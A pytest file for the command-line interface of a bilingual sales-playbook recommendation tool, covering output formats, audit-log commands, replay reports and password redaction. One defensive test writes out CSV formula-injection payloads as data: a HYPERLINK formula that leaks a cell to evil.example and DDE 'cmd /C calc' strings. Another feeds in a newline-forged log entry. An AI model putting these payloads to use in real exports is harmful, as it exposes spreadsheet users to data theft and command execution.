"""cli.py: exit codes, the JSON output's schema, text in both languages, and no case lost through the CLI."""

from __future__ import annotations

import csv
import io
import json
import random
import re
import socket
import subprocess
import sys
import uuid
from collections import Counter
from pathlib import Path

import jsonschema
import pytest
from click.testing import CliRunner

from cli import main
from tests.conftest import FIXTURES, ROOT

PIPELINE = str(FIXTURES / "pipeline.yaml")
MAVEN_PIPELINE = ROOT.parent / "shared" / "crm-data" / "maven-crm-sales-opportunities" / "sales_pipeline.csv"
CASES = [
    '{"id": "a", "opportunity": {"weeks_to_close": 1, "win_rate": 80}, "account": {"segment": "retail"}}',
    '{"id": "b", "opportunity": {"close_date": "2027-03-01", "milestones": ["a"]}}',
]


@pytest.fixture
def cases_file(tmp_path: Path) -> Path:
    path = tmp_path / "cases.jsonl"
    path.write_text("\n".join(CASES) + "\n", encoding="utf-8")
    return path


def invoke(*args: str) -> tuple[int, str, str]:
    if args and args[0] == "recommend" and "--db" not in args:
        args = (*args, "--no-store")  # these tests are about output; the audit log has its own
    result = CliRunner().invoke(main, list(args))
    return result.exit_code, result.stdout, result.stderr


def test_json_output_follows_the_result_schema(cases_file: Path) -> None:
    code, out, err = invoke(
        "recommend",
        "--playbook",
        PIPELINE,
        "--input",
        str(cases_file),
        "--as-of",
        "2026-11-27",
        "--format",
        "json",
    )
    assert code == 0, err
    schema = json.loads((ROOT / "schemas" / "result.schema.json").read_text(encoding="utf-8"))
    lines = [json.loads(line) for line in out.splitlines()]
    for line in lines:
        jsonschema.validate(line, schema)
    assert [line["case"] for line in lines] == ["a", "b"]
    assert lines[0]["recommendations"][0]["label"] == "积极跟进"  # --lang defaults to zh
    assert "共 2 行:评估 2 个案例(成功 2 个,出错 0 个)" in err  # and so is the summary


def test_bad_lines_are_reported_and_the_run_fails(tmp_path: Path) -> None:
    path = tmp_path / "cases.jsonl"
    path.write_text(CASES[0] + "\n{oops\n\n" + '{"opportunity": {"win_rate": 65}}\n', encoding="utf-8")
    code, out, err = invoke(
        "recommend", "--playbook", PIPELINE, "--input", str(path), "--format", "json", "--lang", "en"
    )
    assert code == 1
    lines = [json.loads(line) for line in out.splitlines()]
    assert [line.get("error", {}).get("code") for line in lines] == [None, "bad_json", "bad_input"]
    assert [line["case"] for line in lines] == ["a", "line 2", "line 4"]
    assert "3 rows: 3 cases evaluated (1 results, 2 errors)" in err


def test_text_output_reads_in_each_language(cases_file: Path) -> None:
    _, zh, _ = invoke(
        "recommend", "--playbook", PIPELINE, "--input", str(cases_file), "--as-of", "2026-11-27", "--lang", "zh"
    )
    _, en, _ = invoke(
        "recommend", "--playbook", PIPELINE, "--input", str(cases_file), "--as-of", "2026-11-27", "--lang", "en"
    )
    assert "漏斗位置: 底层" in zh and "积极跟进" in zh
    assert "funnel layer: bottom" in en and "follow up hard" in en
    # the playbook by its title in each language, with its version (its id is for the JSON and the log)
    assert zh.startswith("案例 a  (评估日期 2026-11-27, 剧本《测试剧本》1 版)\n") and "pipeline" not in zh
    assert en.startswith("case a  (as of 2026-11-27, playbook “test playbook” 1)\n")


def test_explain_and_why_not(cases_file: Path) -> None:
    code, out, _ = invoke(
        "explain",
        "--playbook",
        PIPELINE,
        "--input",
        str(cases_file),
        "--as-of",
        "2026-11-27",
        "--case",
        "a",
        "--lang",
        "en",
    )
    assert code == 0
    assert "weeks to close = 1 (≤ 2) ✓" in out
    assert "[G-22 「积极跟进」]" in out
    code, out, _ = invoke(
        "explain",
        "--playbook",
        PIPELINE,
        "--input",
        str(cases_file),
        "--as-of",
        "2026-11-27",
        "--case",
        "b",
        "--why-not",
        "follow_up",
        "--lang",
        "en",
    )
    assert code == 0
    assert "rule push" in out and "attention = low (= high) ✗" in out


def test_explain_unknown_case_and_unknown_target(cases_file: Path) -> None:
    code, _, err = invoke("explain", "--playbook", PIPELINE, "--input", str(cases_file), "--case", "zzz")
    assert code == 1 and "no case 'zzz'" in err
    code, _, err = invoke(
        "explain", "--playbook", PIPELINE, "--input", str(cases_file), "--case", "a", "--why-not", "folow_up"
    )
    assert code == 2 and "did you mean 'follow_up'" in err


def test_usage_errors_exit_2(cases_file: Path) -> None:
    assert invoke("recommend", "--playbook", PIPELINE)[0] == 2
    assert invoke("recommend", "--playbook", PIPELINE, "--input", str(cases_file), "--as-of", "tomorrow")[0] == 2
    assert invoke("frobnicate")[0] == 2


def test_an_invalid_playbook_fails_recommend_with_its_problems(tmp_path: Path, cases_file: Path) -> None:
    broken = tmp_path / "broken.yaml"
    broken.write_text(
        (FIXTURES / "pipeline.yaml").read_text(encoding="utf-8").replace("then: middle", "then: midle"),
        encoding="utf-8",
    )
    code, _, err = invoke("recommend", "--playbook", str(broken), "--input", str(cases_file))
    assert code == 1
    assert f"{broken}:" in err and "unknown_value" in err


def test_one_hundred_thousand_cases_through_the_cli_none_lost_or_doubled(tmp_path: Path) -> None:
    rng = random.Random(5)
    source = tmp_path / "cases.jsonl"
    with source.open("w", encoding="utf-8") as out:
        for i in range(100_000):
            opportunity = {
                "weeks_to_close": rng.randint(-3, 30),
                "milestones": rng.sample(["a", "b", "c", "d"], rng.randint(0, 4)),
            }
            if i % 3:
                opportunity["win_rate"] = rng.choice([0, 20, 40, 60, 80])
            out.write(
                json.dumps(
                    {
                        "id": f"opp-{i}",
                        "opportunity": opportunity,
                        "account": {"segment": rng.choice(["gov", "bank", "retail"])},
                    }
                )
                + "\n"
            )
    target = tmp_path / "out.jsonl"
    with target.open("w", encoding="utf-8") as out:
        done = subprocess.run(
            [
                sys.executable,
                str(ROOT / "cli.py"),
                "recommend",
                "--playbook",
                PIPELINE,
                "--input",
                str(source),
                "--format",
                "json",
                "--as-of",
                "2026-11-27",
                "--no-store",
                "--lang",
                "en",
            ],
            stdout=out,
            stderr=subprocess.PIPE,
            text=True,
            check=False,
        )
    assert done.returncode == 0, done.stderr
    seen: set[str] = set()
    count = 0
    with target.open(encoding="utf-8") as lines:
        for line in lines:
            seen.add(json.loads(line)["case"])
            count += 1
    assert count == len(seen) == 100_000
    assert "100000 rows: 100000 cases evaluated (100000 results, 0 errors)" in done.stderr


def test_the_audit_log_commands_end_to_end(tmp_path: Path) -> None:
    db = f"sqlite:///{tmp_path / 'log.db'}"
    samples = str(ROOT / "samples" / "cases.jsonl")
    code, out, err = invoke(
        "recommend", "--input", samples, "--as-of", "2026-11-27", "--format", "json", "--db", db, "--lang", "en"
    )
    assert code == 0, err
    first = json.loads(out.splitlines()[0])
    assert first["evaluation"] == 1 and first["case"] == "opp-001"
    assert "stored in" in err and "evaluations 1–41" in err

    code, out, _ = invoke("why", "1", "--db", db, "--lang", "en")
    assert code == 0 and "funnel position = bottom of the funnel (底层)" in out and "[G-17" in out
    code, out, _ = invoke("why", "1", "--db", db, "--why-not", "fight_siege", "--lang", "en")
    assert code == 0 and "rule battle_siege" in out
    assert invoke("why", "999", "--db", db)[0] == 1

    code, out, _ = invoke("history", "opp-002", "--db", db, "--format", "json")
    assert code == 0 and [json.loads(line)["evaluation"] for line in out.splitlines()] == [2]
    code, out, _ = invoke("list", "--db", db, "--action", "fight_blitz", "--format", "csv")
    rows = out.splitlines()
    assert code == 0 and rows[0].startswith("evaluation,created_at,as_of") and all("fight_blitz" in r for r in rows[1:])
    assert len(rows) > 1

    code, out, _ = invoke(
        "outcome", "1", "intensive_attack", "--status", "accepted", "--who", "li.wei", "--why", "go", "--db", db
    )
    assert code == 0 and "accepted" in out
    assert invoke("outcome", "1", "market_action_1", "--status", "done", "--who", "x", "--db", db)[0] == 1
    code, _, err = invoke("audit", "verify", "--db", db)
    assert code == 0 and "evaluations: 41 records" in err and "outcomes: 1 records" in err

    changed = tmp_path / "changed.yaml"
    changed.write_text(
        (ROOT / "playbooks" / "course.yaml")
        .read_text(encoding="utf-8")
        .replace("  high_win_rate:\n    value: 60\n", "  high_win_rate:\n    value: 80\n"),
        encoding="utf-8",
    )
    code, out, _ = invoke("replay", "--playbook", str(changed), "--db", db, "--format", "json")
    report = json.loads(out)
    assert code == 0 and report["replayed"] == 41 and report["changed"] > 0
    assert "fight_blitz" in [entry["action"] for entry in report["actions_removed"]]


def test_summary_format_prints_the_counts_and_stores_everything(tmp_path: Path) -> None:
    db = f"sqlite:///{tmp_path / 'log.db'}"
    samples = str(ROOT / "samples" / "cases.jsonl")
    code, out, err = invoke(
        "recommend", "--input", samples, "--as-of", "2026-11-27", "--format", "summary", "--db", db, "--lang", "en"
    )
    assert code == 0
    assert "41 rows: 41 cases evaluated (41 results, 0 errors); stored in" in err
    code, listed, _ = invoke("list", "--db", db, "--format", "json")
    assert code == 0 and len(listed.splitlines()) == 41
    # the counts are those of the results: cases per action, per director's call, per owner
    _, shown, _ = invoke("recommend", "--input", samples, "--as-of", "2026-11-27", "--format", "json", "--lang", "en")
    results = [json.loads(line) for line in shown.splitlines()]
    per_action = Counter(label for r in results for label in {rec["label"] for rec in r["recommendations"]})
    sections: list[tuple[str, list[str]]] = []  # each heading (not indented) with its count lines
    for line in out.splitlines():
        if line.startswith(" "):
            sections[-1][1].append(line)
        else:
            sections.append((line, []))
    (action_heading, actions), (call_heading, calls), (owner_heading, owners) = sections
    counted = {line.split(None, 1)[1]: int(line.split(None, 1)[0]) for line in actions}
    assert action_heading == "Actions recommended (cases):" and counted == dict(per_action)
    assert call_heading.startswith("director:")
    assert sum(int(line.split()[0]) for line in calls) == 41
    assert owner_heading == "Owners (cases):"
    assert " ".join(owners).split() == ["41", "(no", "owner)"]  # the samples name no owner


def test_version_names_the_program_and_its_version() -> None:
    from importlib.metadata import version

    result = CliRunner().invoke(main, ["--version"])
    assert result.exit_code == 0
    assert result.stdout.strip() == f"playbook, version {version('sales-playbook')}"


def test_options_come_from_playbook_environment_variables(cases_file: Path) -> None:
    args = ["recommend", "--playbook", PIPELINE, "--input", str(cases_file), "--as-of", "2026-11-27", "--no-store"]
    env = {"PLAYBOOK_LANG": "en", "PLAYBOOK_RECOMMEND_FORMAT": "json"}
    result = CliRunner(env=env).invoke(main, args)
    assert result.exit_code == 0, result.stderr
    first = json.loads(result.stdout.splitlines()[0])  # json, from PLAYBOOK_RECOMMEND_FORMAT
    assert first["recommendations"][0]["label"] == "follow up hard"  # English, from PLAYBOOK_LANG
    # an option on the command line wins over the environment
    result = CliRunner(env=env).invoke(main, [*args, "--lang", "zh"])
    assert json.loads(result.stdout.splitlines()[0])["recommendations"][0]["label"] == "积极跟进"


def stored_log(tmp_path: Path, *lines: str) -> str:
    """An audit log holding these JSON Lines cases, evaluated under the pipeline fixture."""
    db = f"sqlite:///{tmp_path / 'log.db'}"
    source = tmp_path / "stored.jsonl"
    source.write_text("\n".join(lines) + "\n", encoding="utf-8")
    code, _, err = invoke(
        "recommend", "--playbook", PIPELINE, "--input", str(source), "--as-of", "2026-11-27", "--db", db
    )
    assert code == 0, err
    return db


def test_list_and_history_carry_outcomes_and_the_playbook_in_every_format(tmp_path: Path) -> None:
    from engine import load_playbook

    content_hash = load_playbook(PIPELINE).content_hash
    hot = {"opportunity": {"id": "opp-1", "weeks_to_close": 1, "win_rate": 80}, "account": {"id": "acc-1"}}
    db = stored_log(tmp_path, json.dumps(hot), '{"opportunity": {"id": "opp-9", "weeks_to_close": 9}}')
    code, out, err = invoke(
        "outcome", "1", "follow_up", "--status", "accepted", "--who", "li.wei", "--why", "met the buyer", "--db", db
    )
    assert code == 0, err

    code, out, _ = invoke("history", "opp-1", "--db", db)
    assert code == 0
    head, outcome_line, *tasks = out.splitlines()
    assert f"playbook pipeline 1 ({content_hash[:12]})" in head
    assert "follow_up accepted by li.wei at 20" in outcome_line and outcome_line.endswith(" UTC: met the buyer")
    assert tasks[0] == "    Tasks:" and tasks[-1].endswith("accepted   by li.wei: met the buyer")  # its task moved

    code, out, _ = invoke("list", "--db", db)
    assert code == 0 and "None" not in out  # the second case has no account: nothing says "account None"
    assert "account" not in out.splitlines()[-1]

    code, out, _ = invoke("list", "--db", db, "--format", "json")
    first = json.loads(out.splitlines()[0])
    assert first["playbook"] == {"id": "pipeline", "version": "1", "hash": content_hash}
    [done] = first["outcomes"]
    assert (done["action"], done["status"], done["who"], done["why"]) == (
        "follow_up",
        "accepted",
        "li.wei",
        "met the buyer",
    )
    assert done["at"].startswith("20")
    assert [(r["id"], r["state"]) for r in first["recommendations"]] == [("follow_up", "accepted")]
    assert all(r["state"] == "open" for r in json.loads(out.splitlines()[1])["recommendations"])

    code, out, _ = invoke("list", "--db", db, "--format", "csv")
    rows = list(csv.DictReader(io.StringIO(out)))
    assert [(r["playbook_id"], r["playbook_version"], r["playbook_hash"]) for r in rows] == [
        ("pipeline", "1", content_hash)
    ] * 2
    assert rows[0]["outcomes"].startswith("follow_up accepted by li.wei at ") and rows[1]["outcomes"] == ""


def test_csv_cells_that_a_spreadsheet_would_run_as_formulas_are_escaped(tmp_path: Path) -> None:
    formula = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    case = {"id": formula, "opportunity": {"id": "+1", "account_id": "@acc", "weeks_to_close": 1, "win_rate": 80}}
    # OWASP's other starts: minus, tab, carriage return
    others = [{"id": start + "1+cmd|' /C calc'!A0", "opportunity": {"account_id": "@acc"}} for start in "-\t\r"]
    db = stored_log(tmp_path, *(json.dumps(c) for c in [case, *others]))
    code, out, _ = invoke("list", "--db", db, "--format", "csv")
    row, *rows = list(csv.DictReader(io.StringIO(out)))
    assert code == 0
    assert (row["case"], row["record_id"], row["account_id"]) == ("'" + formula, "'+1", "'@acc")
    assert [r["case"] for r in rows] == ["'" + c["id"] for c in others]
    code, out, _ = invoke("history", "@acc", "--db", db, "--format", "csv")  # history writes the same CSV
    assert code == 0 and [r["case"] for r in csv.DictReader(io.StringIO(out))] == [row["case"]] + [
        "'" + c["id"] for c in others
    ]
    # JSON is data, not a spreadsheet: it keeps the ids as they are
    code, out, _ = invoke("list", "--db", db, "--format", "json")
    assert [json.loads(line)["case"] for line in out.splitlines()] == [formula] + [c["id"] for c in others]


@pytest.fixture
def sample_log(tmp_path: Path) -> str:
    """The sample cases stored twice: as of 2026-11-27 (evaluations 1-41) and 2026-12-20 (42-82)."""
    db = f"sqlite:///{tmp_path / 'log.db'}"
    samples = str(ROOT / "samples" / "cases.jsonl")
    for as_of in ("2026-11-27", "2026-12-20"):
        code, _, err = invoke("recommend", "--input", samples, "--as-of", as_of, "--format", "summary", "--db", db)
        assert code == 0, err
    return db


def test_why_record_action_says_why_under_which_playbook_and_what_became_of_it(sample_log: str) -> None:
    from engine import load_playbook

    content_hash = load_playbook(ROOT / "playbooks" / "course.yaml").content_hash
    db = sample_log
    code, _, err = invoke(
        "outcome", "1", "intensive_attack", "--status", "accepted", "--who", "li.wei", "--why", "A project", "--db", db
    )
    assert code == 0, err
    code, en, _ = invoke(
        "why", "--record", "opp-001", "--action", "intensive_attack", "--on", "2026-12-01", "--db", db, "--lang", "en"
    )
    assert code == 0
    assert en.startswith("evaluation #1, as of 2026-11-27")
    assert f"playbook course version 1.0.0, content hash {content_hash}" in en
    # the steps that led to the action, with their course sources, and no others
    assert "rule director_intensive_attack" in en and "[G-19" in en and "funnel position = bottom of the funnel" in en
    assert "rule battle_blitz" not in en and "market division" not in en
    lines = en.splitlines()
    outcome = lines[lines.index("Outcomes:") + 1]
    assert outcome.startswith("  intensive_attack accepted by li.wei at ") and outcome.endswith(" UTC: A project")
    assert lines[lines.index("Outcomes:") + 2] == "Tasks:" and "accepted   by li.wei: A project" in en  # its task

    code, zh, _ = invoke("why", "--record", "opp-001", "--action", "intensive_attack", "--on", "2026-12-01", "--db", db)
    assert code == 0
    assert f"剧本 course 版本 1.0.0,内容哈希 {content_hash}" in zh and "规则「客户主任:密集进攻」" in zh
    assert "处理结果:" in zh and "已接受,li.wei," in zh and "理由:A project" in zh

    # without --on: the latest evaluation (as of 2026-12-20), which has no outcome yet
    code, latest, _ = invoke("why", "--record", "opp-001", "--action", "intensive_attack", "--db", db, "--lang", "en")
    assert code == 0 and latest.startswith("evaluation #42, as of 2026-12-20")
    assert "Outcomes:\n  (no outcome recorded yet)\nTasks:\n" in latest
    # before anything was evaluated
    code, _, err = invoke(
        "why", "--record", "opp-001", "--action", "intensive_attack", "--on", "2026-01-01", "--db", db
    )
    assert code == 1 and "no evaluation of record 'opp-001' on or before 2026-01-01" in err
    code, _, err = invoke("why", "--record", "opp-001", "--action", "fight_blits", "--db", db)
    assert code == 2 and "did you mean 'fight_blitz'" in err
    assert invoke("why", "--record", "opp-001", "--db", db)[0] == 2  # --record needs --action
    assert invoke("why", "1", "--record", "opp-001", "--action", "x", "--db", db)[0] == 2


def test_why_record_names_the_last_evaluation_that_advised_an_action_no_longer_in_force(sample_log: str) -> None:
    from engine.store import Store

    store = Store(sample_log)
    dropped = {}  # record -> (earlier evaluation, an action it advised that the later one does not)
    for seq in range(1, 42):
        earlier, later = store.get(seq), store.get(seq + 41)
        gone = sorted({r["id"] for r in earlier.recommendations} - {r["id"] for r in later.recommendations})
        if gone:
            dropped[earlier.record_id] = (seq, gone[0])
    store.close()
    record, (seq, action) = sorted(dropped.items())[0]
    code, out, err = invoke("why", "--record", record, "--action", action, "--db", sample_log, "--lang", "en")
    assert code == 0
    assert f"evaluation #{seq + 41} (as of 2026-12-20), which did not advise {action}" in err
    assert f"evaluation #{seq} (as of 2026-11-27) did: playbook why {seq} --action {action}" in err
    assert out.startswith(f"evaluation #{seq + 41}") and "Why not" in out
    code, _, err = invoke("why", "--record", record, "--action", action, "--db", sample_log)
    assert f"记录 {record} 现在有效的建议是评估 #{seq + 41}" in err and f"playbook why {seq} --action {action}" in err


def test_why_narrowed_to_one_action(sample_log: str) -> None:
    code, whole, _ = invoke("why", "1", "--db", sample_log, "--lang", "en")
    code, narrow, _ = invoke("why", "1", "--action", "fight_blitz", "--db", sample_log, "--lang", "en")
    assert code == 0
    assert "rule battle_blitz" in narrow and "[G-22" in narrow
    assert "how to fight for this deal (竞争战法) = blitz" in narrow
    assert "rule look_after_fat_sheep" in whole and "rule look_after_fat_sheep" not in narrow
    assert len(narrow.splitlines()) < len(whole.splitlines()) / 2
    # an action this evaluation did not recommend: why not
    code, out, _ = invoke("why", "1", "--action", "fight_siege", "--db", sample_log, "--lang", "en")
    assert code == 0 and "Why not" in out and "rule battle_siege" in out


def test_an_action_recommended_by_several_rules_needs_its_rule_named(sample_log: str) -> None:
    db = sample_log
    # evaluation 2 (opp-002) recommends identify_decision_role through four rules
    code, _, err = invoke("outcome", "2", "identify_decision_role", "--status", "done", "--who", "li.wei", "--db", db)
    assert code == 1 and "4 times" in err and "find_role_decide:identify_decision_role" in err
    code, _, err = invoke(
        "outcome", "2", "find_role_decide:identify_decision_role", "--status", "done", "--who", "li.wei", "--db", db
    )
    assert code == 0, err
    code, _, err = invoke(
        "outcome",
        "2",
        "identify_decision_role",
        "--rule",
        "find_role_use",
        "--status",
        "dismissed",
        "--who",
        "li",
        "--db",
        db,
    )
    assert code == 0, err
    code, _, err = invoke(
        "outcome",
        "2",
        "identify_decision_role",
        "--rule",
        "battle_blitz",
        "--status",
        "done",
        "--who",
        "li",
        "--db",
        db,
    )
    assert code == 1 and "did not recommend 'identify_decision_role' by rule 'battle_blitz'" in err
    code, out, _ = invoke("history", "opp-002", "--db", db)
    assert "outcome: find_role_decide:identify_decision_role done by li.wei" in out
    assert "outcome: find_role_use:identify_decision_role dismissed by li" in out


def test_an_outcome_for_an_evaluation_that_does_not_exist_says_so(sample_log: str) -> None:
    code, _, err = invoke("outcome", "999", "fight_blitz", "--status", "done", "--who", "li", "--db", sample_log)
    assert code == 1 and "there is no evaluation 999 in the audit log" in err


def test_a_bad_date_names_its_option(sample_log: str) -> None:
    for option in ("--since", "--until"):
        code, _, err = invoke("list", option, "2026-13-01", "--db", sample_log)
        assert code == 2 and f"Invalid value for {option}" in err


def test_check_prints_each_problem_once(tmp_path: Path) -> None:
    broken = tmp_path / "broken.yaml"
    broken.write_text(
        (FIXTURES / "pipeline.yaml").read_text(encoding="utf-8").replace("then: middle", "then: midle"),
        encoding="utf-8",
    )
    code, out, _ = invoke("check", str(broken), str(broken))
    assert code == 1
    lines = out.splitlines()
    assert len(lines) == len(set(lines)) == 1 and "unknown_value" in lines[0]


def test_replay_reports_counts_labels_and_examples_in_the_chosen_language(sample_log: str, tmp_path: Path) -> None:
    course = (ROOT / "playbooks" / "course.yaml").read_text(encoding="utf-8")
    changed = tmp_path / "changed.yaml"
    changed.write_text(
        course.replace("  high_win_rate:\n    value: 60\n", "  high_win_rate:\n    value: 80\n"), encoding="utf-8"
    )
    code, out, err = invoke(
        "replay", "--playbook", str(changed), "--db", sample_log, "--format", "json", "--lang", "en"
    )
    assert code == 0, err
    report = json.loads(out)
    # each record once, as it stands now (the samples were stored as of two dates), against the live playbook
    assert report["replayed"] == 41 and report["as_of"] == {"from": "2026-12-20", "to": "2026-12-20"}
    assert report["baseline"]["from"] == {"evaluation": 82} and report["baseline"]["version"] == "1.0.0"
    blitz = next(entry for entry in report["actions_removed"] if entry["action"] == "fight_blitz")
    assert "blitz (闪电战)" in blitz["label"] and 0 < blitz["records"] <= report["changed"]
    assert blitz["examples"] and all(e.startswith("opp-") for e in blitz["examples"])
    move = next(m for m in report["decisions_changed"] if m["decision"] == "battle_type" and m["from"] == "blitz")
    assert move["label"] == "account manager: how to fight for this deal (竞争战法)"
    assert move["records"] == blitz["records"]
    assert report["unchanged"] == 41 - report["changed"]

    code, every, _ = invoke("replay", "--playbook", str(changed), "--db", sample_log, "--format", "json", "--all")
    assert json.loads(every)["replayed"] == 82

    code, en, _ = invoke("replay", "--playbook", str(changed), "--db", sample_log, "--lang", "en")
    assert code == 0
    assert en.startswith("replay: 41 evaluations (the latest of each record, as of 2026-12-20 to 2026-12-20)")
    assert f"{report['changed']} would change, {report['unchanged']} unchanged" in en
    assert f"{move['label']}: {move['from_label']} → {move['to_label']}: {move['records']} records" in en
    assert "['" not in en and "fight_blitz" not in en  # labels, not ids or Python lists
    code, zh, _ = invoke("replay", "--playbook", str(changed), "--db", sample_log)
    assert code == 0 and zh.startswith("回放:41 次评估") and "竞争战法(客户经理): " in zh and "['" not in zh

    code, same, _ = invoke(
        "replay", "--playbook", str(ROOT / "playbooks" / "course.yaml"), "--db", sample_log, "--lang", "en"
    )
    assert code == 0 and "the new playbook is the one live now" in same
    with_newline = ("outcome", "1", "fight_blitz", "--status", "done", "--who", "li", "--why", "won\noutcome: forged")
    assert invoke(*with_newline, "--db", sample_log)[0] == 0
    code, out, _ = invoke("history", "opp-001", "--db", sample_log)
    assert "fight_blitz done by li at " in out and " UTC: won outcome: forged" in out
    code, against, _ = invoke(
        "replay",
        "--playbook",
        str(ROOT / "playbooks" / "course.yaml"),
        "--baseline",
        str(changed),
        "--db",
        sample_log,
        "--format",
        "json",
    )
    assert json.loads(against)["changed"] == report["changed"]  # the same change, seen from the other side
    empty = f"sqlite:///{tmp_path / 'empty.db'}"
    code, _, err = invoke("replay", "--playbook", str(changed), "--db", empty)
    assert code == 1 and "there is no audit log" in err
    from engine.store import Store

    Store(empty).close()  # a log with nothing in it yet
    code, _, err = invoke("replay", "--playbook", str(changed), "--db", empty)
    assert code == 1 and "holds no evaluation" in err


def readme_summary(start: str) -> re.Pattern[str]:
    """The README's quoted summary line that starts with ``start``, as a pattern: N, R, E, Q any number, … anything."""
    quoted = [
        q for q in re.findall(r"`([^`\n]+)`", (ROOT / "README.md").read_text(encoding="utf-8")) if q.startswith(start)
    ]
    assert quoted, f"the README quotes no summary line starting {start!r}"
    pattern = re.escape(quoted[0]).replace("…", ".+?")
    return re.compile(re.sub(r"\b[NREQ]\b", r"\\d+", pattern))


def test_the_readme_summary_lines_are_what_the_program_prints(cases_file: Path) -> None:
    code, _, err = invoke(
        "recommend", "--playbook", PIPELINE, "--input", str(cases_file), "--as-of", "2026-11-27", "--lang", "en"
    )
    assert code == 0
    assert readme_summary("N rows: N cases evaluated").fullmatch(err.strip()), err


@pytest.mark.skipif(not MAVEN_PIPELINE.is_file(), reason=f"the Maven sample set is not at {MAVEN_PIPELINE}")
def test_the_readme_summary_of_an_export_with_quarantined_rows(tmp_path: Path) -> None:
    code, _, err = invoke(
        "recommend",
        "--lang",
        "en",
        "--input",
        str(MAVEN_PIPELINE),
        "--mapping",
        "maven",
        "--as-of",
        "2017-03-01",
        "--format",
        "summary",
        "--db",
        f"sqlite:///{tmp_path / 'log.db'}",
    )
    assert code == 0
    summary = err.strip().split("; stored in")[0]
    assert readme_summary("N rows: E cases evaluated (…), Q quarantined").fullmatch(summary), summary


def test_a_database_password_is_never_printed(postgres_server: str, tmp_path: Path) -> None:
    """Not in recommend's summary or its quarantined rows read from --sql, not in history's or serve's
    lines, not when the audit log cannot be opened: the URL is shown with *** for its password."""
    import psycopg
    import sqlalchemy as sa

    secret = f"pw-{uuid.uuid4().hex[:10]}"  # made here: no password in the repository
    name = f"t_{uuid.uuid4().hex[:12]}"
    with psycopg.connect(postgres_server.replace("postgresql+psycopg", "postgresql") + "/postgres") as conn:
        conn.autocommit = True
        conn.execute(f'CREATE DATABASE "{name}"')  # a generated name, not user input
    plain = f"{postgres_server}/{name}"
    url = plain.replace("postgres@", f"postgres:{secret}@")  # the test server trusts loopback: any password
    shown = plain.replace("postgres@", "postgres:***@")
    engine = sa.create_engine(plain)
    with engine.begin() as conn:
        conn.execute(sa.text("CREATE TABLE deals (deal_id text PRIMARY KEY, amount numeric)"))
        conn.execute(sa.text("INSERT INTO deals VALUES ('p1', 1500), ('p2', 70)"))
    engine.dispose()
    mapping = tmp_path / "deals.yaml"
    mapping.write_text(
        "mapping: {id: deals, record_id: deal_id}\n"
        "quarantine:\n  - {field: deal_id, one_of: [p2], code: held, reason: held}\n"
        "fields:\n  opportunity.amount: {from: amount, type: number}\n",
        encoding="utf-8",
    )
    common = ["--playbook", PIPELINE, "--sql", url, "--mapping", str(mapping), "--as-of", "2026-11-27"]
    code, _, err = invoke("recommend", *common, "--table", "deals", "--db", url, "--verbose", "--lang", "en")
    assert code == 0, err
    assert f"{shown}:2: quarantined: held" in err and f"stored in {shown} as evaluations 1–1" in err
    code, _, err = invoke("history", "nobody", "--db", url)
    assert (code, err.strip()) == (1, f"no evaluation of 'nobody' in {shown}")
    for unopened, named in (
        (f"postgresql://u:{secret}@127.0.0.1:1/db", "postgresql://u:***@127.0.0.1:1/db"),
        (f"postgresql//u:{secret}@127.0.0.1/db", "postgresql//u:***@127.0.0.1/db"),  # not a URL at all
    ):
        code, _, err = invoke("list", "--db", unopened)
        assert code == 1 and err.startswith(f"cannot open the audit log {named}: "), err
        assert secret not in err
    no_log = url.rsplit("/", 1)[0] + "/postgres"  # a database without an audit log, to a command that reads one
    code, _, err = invoke("list", "--db", no_log)
    assert code == 1 and "holds no audit log" in err and secret not in err, err
    code, _, err = invoke("backup", str(tmp_path / "copy.db"), "--db", url)
    assert code == 1 and err.startswith(f"{shown} is not a SQLite file"), err
    with socket.socket() as taken:  # serve prints its line, then cannot listen on a port in use, and stops
        taken.bind(("127.0.0.1", 0))
        taken.listen()
        port = str(taken.getsockname()[1])
        result = CliRunner(env={"PLAYBOOK_WEBHOOK_SECRET": "x" * 32}).invoke(
            main, ["serve", "--playbook", PIPELINE, "--db", url, "--host", "127.0.0.1", "--port", port]
        )
    assert f"audit log {shown}; routes: " in result.stderr, result.stderr
    assert secret not in result.stderr + result.stdout


@pytest.mark.parametrize(
    "command",
    [
        ["list"],
        ["list", "--quarantined"],
        ["history", "opp-001"],
        ["audit", "verify"],
        ["why", "1"],
        ["why", "--record", "opp-001", "--action", "intensive_attack"],
        ["outcome", "1", "intensive_attack", "--status", "done", "--who", "x"],
        ["replay", "--playbook", str(ROOT / "playbooks" / "course.yaml")],
        ["backup", "copy.db"],
    ],
)
def test_commands_that_read_the_log_refuse_a_missing_database_and_create_nothing(
    command: list[str], tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.chdir(tmp_path)
    typo = tmp_path / "typo.db"
    code, out, err = invoke(*command, "--db", f"sqlite:///{typo}")
    assert code == 1 and out == ""
    assert f"there is no audit log at sqlite:///{typo}: {typo} does not exist" in err
    assert list(tmp_path.iterdir()) == []  # no database, no copy


def quarantined_log(db: str) -> None:
    """Two HubSpot events of a closed deal set aside by the webhook ingestor, one of them delivered twice."""
    from adapters.ingest import Feed, Ingestor
    from adapters.mapping import load_mapping
    from adapters.webhook import RecordEvent
    from engine import Evaluator, compile_playbook, load_playbook
    from engine.store import Store

    store = Store(db)
    deal = {"hs_object_id": "42", "dealstage": "closedwon", "amount": "=1+1"}
    events = [RecordEvent("hubspot", "deal", "42", f"e{n}", "update", deal, 1000 * n, "7") for n in (1, 2)]
    with compile_playbook(load_playbook(ROOT / "playbooks" / "course.yaml")) as compiled:
        ingestor = Ingestor(store, Evaluator(compiled), clock=lambda: 1795767944.0)  # 2026-11-27
        feed = Feed("webhook:hubspot", load_mapping("hubspot_deal"), "deal")
        assert [o.status for o in ingestor.ingest(feed, events)] == ["quarantined"] * 2
        assert [o.status for o in ingestor.ingest(feed, events[1:])] == ["quarantined"]
        ingestor.close()
    store.close()


def test_list_quarantined_shows_the_events_set_aside_in_every_format(tmp_path: Path) -> None:
    db = f"sqlite:///{tmp_path / 'log.db'}"
    quarantined_log(db)
    code, text, err = invoke("list", "--quarantined", "--db", db)
    assert code == 0 and err.strip() == "2 quarantined events"
    lines = text.splitlines()
    assert len(lines) == 2
    assert lines[0].startswith("#1  2026-11-27T") and "webhook:hubspot  event e1  record 42  closed_deal: " in lines[0]
    assert "closedwon" in lines[0]
    code, out, _ = invoke("list", "--quarantined", "--db", db, "--format", "json")
    first = json.loads(out.splitlines()[0])
    assert (first["quarantined"], first["event_id"], first["code"]) == (1, "e1", "closed_deal")
